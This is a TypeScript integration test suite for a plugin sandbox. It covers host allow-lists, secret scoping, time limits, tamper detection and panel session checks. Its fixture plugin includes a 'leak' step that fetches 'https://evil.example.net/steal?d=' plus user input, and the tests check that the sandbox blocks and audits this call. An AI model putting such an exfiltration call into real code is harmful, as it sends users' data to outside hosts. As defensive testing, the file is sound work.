import {
  createOrg,
  install,
  objectPaths,
  openPanel,
  panelBridge,
  paths,
  runPluginStep,
  type Capability,
  type Permission,
} from '@mlebotics/shared';
import {
  admin,
  connectClient,
  createPublisher,
  createUser,
  packPlugin,
  publishThroughUpload,
  resetEmulators,
  uniqueId,
  type Client,
} from '@mlebotics/testing';
import { FieldValue, Timestamp } from 'firebase-admin/firestore';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const text = { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] };
const step = (id: string, timeoutMs?: number): Capability => ({
  type: 'automation-step',
  id,
  title: id,
  inputSchema: text,
  outputSchema: text,
  ...(timeoutMs ? { timeoutMs } : {}),
});
const PERMISSIONS: Permission[] = [
  { name: 'storage:plugin', reason: 'Remembers the last note' },
  { name: 'network:fetch', reason: 'Reads the dock schedule', hosts: ['docks.example.com'] },
  { name: 'secrets:read', reason: 'Authenticates to the dock API', secrets: ['DOCK_TOKEN'] },
  { name: 'ui:panel', reason: 'Shows the dock board' },
];
const MAIN = `export default {
  steps: {
    async echo(input, ctx) { ctx.log('echo ' + input.text); return { text: input.text.toUpperCase() }; },
    async remember(input, ctx) {
      const before = await ctx.storage.get('note');
      await ctx.storage.set('note', input.text);
      return { text: before ?? '(nothing)' };
    },
    async leak(input, ctx) { await ctx.fetch('https://evil.example.net/steal?d=' + input.text); return { text: 'sent' }; },
    async spin() { for (;;) {} },
    async token(input, ctx) { const t = await ctx.secrets.read('DOCK_TOKEN'); return { text: t ? 'token of ' + t.length : 'none' }; },
    async probe() {
      return { text: [typeof process, typeof require, typeof fetch, typeof WebAssembly].join(',') };
    },
    async wrong() { return { nope: true }; },
  },
};
`;
const PANEL = '<!doctype html><title>Docks</title><p id="board">Dock board</p><script src="panel.js"></script>\n';

let developer: Client;
let owner: Client;
let stranger: Client;
let orgId: string;
let otherOrg: string;
let pluginId: string;

const run = (client: Client, stepId: string, input: unknown, org = orgId, plugin = pluginId) =>
  client.call(runPluginStep, { orgId: org, pluginId: plugin, stepId, input });

async function publish(id: string, capabilities: Capability[], permissions: Permission[], extra = {}) {
  const upload = await publishThroughUpload(
    developer,
    id.split('.')[0]!,
    await packPlugin(
      id,
      { capabilities: capabilities as never, permissions },
      { 'index.js': MAIN, 'panel.html': PANEL, 'panel.js': 'document.body.dataset.ready = "1";\n', ...extra },
    ),
  );
  if (upload.state !== 'published') throw new Error(JSON.stringify(upload.errors));
}

beforeAll(async () => {
  await resetEmulators();
  const dev = await createUser(`${uniqueId('dev')}@example.com`);
  const publisherId = uniqueId('dockside');
  await createPublisher(publisherId, [dev.uid]);
  developer = await connectClient(dev);
  pluginId = `${publisherId}.dock-tools`;
  await publish(
    pluginId,
    [
      // Steps that await Firestore through their bridges get room for a loaded machine; the
      // budget itself is tested with `spin`.
      ...['echo', 'remember', 'leak', 'token', 'probe', 'wrong'].map((id) => step(id, 10_000)),
      step('spin', 300),
      { type: 'ui-panel', id: 'board', title: 'Dock board', entry: 'panel.html', height: 200 },
    ],
    PERMISSIONS,
  );
  owner = await connectClient(await createUser(`${uniqueId('owner')}@example.com`));
  stranger = await connectClient(await createUser(`${uniqueId('stranger')}@example.com`));
  orgId = uniqueId('port');
  otherOrg = uniqueId('harbor');
  await owner.call(createOrg, { name: 'Port', orgId });
  await owner.call(createOrg, { name: 'Harbor', orgId: otherOrg });
  for (const org of [orgId, otherOrg]) {
    await owner.call(install, { orgId: org, pluginId, grantedPermissions: PERMISSIONS });
  }
}, 300_000);

afterAll(async () => {
  await Promise.all([developer, owner, stranger].map((c) => c?.close()));
});

describe('runPluginStep', () => {
  it('runs a verified step in the sandbox and returns its output and log', async () => {
    const result = await run(owner, 'echo', { text: 'berth 4' });
    expect(result).toMatchObject({ output: { text: 'BERTH 4' }, version: '1.0.0', logs: ['echo berth 4'] });
  });

  it('gives the sandbox nothing of the host', async () => {
    const { output } = await run(owner, 'probe', { text: '' });
    expect(output).toEqual({ text: 'undefined,undefined,undefined,undefined' });
  });

  it('keeps storage:plugin data per organization, scoped by the server', async () => {
    await run(owner, 'remember', { text: 'crane 2 serviced' });
    await expect(run(owner, 'remember', { text: 'crane 3' })).resolves.toMatchObject({
      output: { text: 'crane 2 serviced' },
    });
    // The same plugin in another organization sees its own data only.
    await expect(run(owner, 'remember', { text: 'elsewhere' }, otherOrg)).resolves.toMatchObject({
      output: { text: '(nothing)' },
    });
    const stored = await admin.db.collection(paths.pluginStorageEntries(orgId, pluginId)).get();
    expect(stored.docs.map((d) => d.get('key'))).toEqual(['note']);
  });

  it('refuses an undeclared host, and audits it', async () => {
    await expect(run(owner, 'leak', { text: 'secret' })).rejects.toMatchObject({
      code: 'functions/permission-denied',
      message: expect.stringContaining('evil.example.net is not a host this plugin may reach'),
    });
    const log = await admin.db
      .collection(paths.auditLog(orgId))
      .where('action', '==', 'plugin.bridge')
      .where('stepId', '==', 'leak')
      .get();
    expect(log.docs[0]?.get('calls')).toEqual([
      expect.objectContaining({ permission: 'network:fetch', operation: 'fetch', allowed: false }),
    ]);
  });

  it('reads only granted secrets of its organization', async () => {
    await expect(run(owner, 'token', { text: '' })).resolves.toMatchObject({ output: { text: 'none' } });
    await admin.db
      .doc(paths.secret(orgId, 'DOCK_TOKEN'))
      .set({ value: 'abc123', updatedAt: FieldValue.serverTimestamp() });
    await expect(run(owner, 'token', { text: '' })).resolves.toMatchObject({ output: { text: 'token of 6' } });
  });

  it('stops a step at its time budget, and validates input and output', async () => {
    await expect(run(owner, 'spin', { text: '' })).rejects.toMatchObject({
      code: 'functions/deadline-exceeded',
      details: { reason: 'plugin-timeout' },
    });
    await expect(run(owner, 'echo', { wrong: 1 })).rejects.toMatchObject({
      code: 'functions/invalid-argument',
      details: { reason: 'invalid-input' },
    });
    await expect(run(owner, 'wrong', { text: '' })).rejects.toMatchObject({ details: { hostCode: 'invalid-output' } });
    await expect(run(owner, 'nosuch', { text: '' })).rejects.toMatchObject({ code: 'functions/not-found' });
    // The host is still serving.
    await expect(run(owner, 'echo', { text: 'ok' })).resolves.toMatchObject({ output: { text: 'OK' } });
  });

  it('runs only for members of an organization that installed the plugin', async () => {
    await expect(run(stranger, 'echo', { text: 'x' })).rejects.toMatchObject({ code: 'functions/not-found' });
    const lonely = uniqueId('lonely');
    await stranger.call(createOrg, { name: 'Lonely', orgId: lonely });
    await expect(run(stranger, 'echo', { text: 'x' }, lonely)).rejects.toMatchObject({
      details: { reason: 'not-installed' },
    });
  });

  it('refuses a registry artifact that was altered after signing', async () => {
    const tampered = `${pluginId.split('.')[0]}.tampered`;
    await publish(tampered, [step('echo')], []);
    await owner.call(install, { orgId, pluginId: tampered, grantedPermissions: [] });
    // Rewrite the stored artifact: same files, one byte of the entry changed.
    const file = admin.bucket().file(objectPaths.artifact(tampered, '1.0.0'));
    const [bytes] = await file.download();
    const tar = gunzipSync(bytes);
    const at = tar.indexOf('toUpperCase');
    tar.write('toLowerCase', at);
    await file.save(gzipSync(tar));
    await expect(run(owner, 'echo', { text: 'x' }, orgId, tampered)).rejects.toMatchObject({
      details: { reason: 'verification-failed' },
      message: expect.stringContaining('altered'),
    });
  });
});

describe('UI panels', () => {
  it('serve the verified panel from another site with a CSP limited to the declared hosts', async () => {
    const panel = await owner.call(openPanel, { orgId, pluginId, panelId: 'board' });
    expect(new URL(panel.url).hostname).toBe('127.0.0.1');
    expect(panel.methods).toEqual(['storage.get', 'storage.set', 'storage.delete', 'storage.list']);
    const response = await fetch(panel.url);
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(PANEL);
    const csp = response.headers.get('content-security-policy')!;
    expect(csp).toContain('connect-src https://docks.example.com;');
    expect(csp).toContain("default-src 'none'");
    expect(csp).toMatch(/frame-ancestors http:\/\/localhost:\d+/);
    // A sibling file of the package, relative to the entry.
    const script = await fetch(new URL('panel.js', panel.url));
    expect(script.headers.get('content-type')).toContain('text/javascript');
    // Unknown tokens and files are refused.
    expect((await fetch(panel.url.replace(/panels\/[^/]+/, 'panels/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'))).status).toBe(
      403,
    );
    expect((await fetch(new URL('nosuch.js', panel.url))).status).toBe(404);
    await expect(stranger.call(openPanel, { orgId, pluginId, panelId: 'board' })).rejects.toMatchObject({
      code: 'functions/not-found',
    });
  });

  it('answer bridge calls with the same permission checks, audited', async () => {
    const { session } = await owner.call(openPanel, { orgId, pluginId, panelId: 'board' });
    await owner.call(panelBridge, {
      orgId,
      pluginId,
      session,
      method: 'storage.set',
      params: { key: 'panel', value: [1, 2] },
    });
    await expect(
      owner.call(panelBridge, { orgId, pluginId, session, method: 'storage.get', params: { key: 'panel' } }),
    ).resolves.toEqual({ result: [1, 2] });
    await expect(
      owner.call(panelBridge, { orgId, pluginId, session, method: 'notifications.send', params: { body: 'hi' } }),
    ).rejects.toMatchObject({ code: 'functions/permission-denied' });
    const denied = await admin.db
      .collection(paths.auditLog(orgId))
      .where('action', '==', 'plugin.bridge')
      .where('via', '==', 'panel')
      .get();
    const calls = denied.docs.flatMap((d) => d.get('calls') as Array<{ operation: string; allowed: boolean }>);
    expect(calls).toContainEqual(expect.objectContaining({ operation: 'notifications.send', allowed: false }));
  });

  it('attack: the bridge refuses calls without a live panel session of that plugin, org and user', async () => {
    const { session } = await owner.call(openPanel, { orgId, pluginId, panelId: 'board' });
    const get = (client: Client, extra: Partial<{ session: string; orgId: string; pluginId: string }> = {}) =>
      client.call(panelBridge, {
        orgId,
        pluginId,
        session,
        method: 'storage.get',
        params: { key: 'panel' },
        ...extra,
      });
    const denied = { code: 'functions/permission-denied' };
    // No panel was ever opened with this token.
    await expect(get(owner, { session: 'A'.repeat(32) })).rejects.toMatchObject(denied);
    // A member of the organization who did not open the panel cannot ride on the owner's session.
    const operator = await connectClient(await createUser(`${uniqueId('op')}@example.com`));
    await admin.db
      .doc(paths.org(orgId))
      .update({ [`members.${operator.uid}`]: 'operator', memberIds: FieldValue.arrayUnion(operator.uid) });
    await expect(get(operator)).rejects.toMatchObject(denied);
    // The session names its plugin: another installed plugin's storage is out of reach with it.
    const other = `${pluginId.split('.')[0]}.other-store`;
    await publish(other, [step('echo')], [{ name: 'storage:plugin', reason: 'Keeps data.' }]);
    await owner.call(install, {
      orgId,
      pluginId: other,
      grantedPermissions: [{ name: 'storage:plugin', reason: 'Keeps data.' }],
    });
    await expect(get(owner, { pluginId: other })).rejects.toMatchObject(denied);
    // That plugin has no panel and no ui:panel grant: no session can be opened for it at all.
    await expect(owner.call(openPanel, { orgId, pluginId: other, panelId: 'board' })).rejects.toMatchObject({
      code: 'functions/not-found',
    });
    // An expired session is refused.
    await admin.db.doc(paths.panelSession(session)).update({ expiresAt: Timestamp.fromMillis(Date.now() - 1000) });
    await expect(get(owner)).rejects.toMatchObject(denied);
    await operator.close();
  });
});
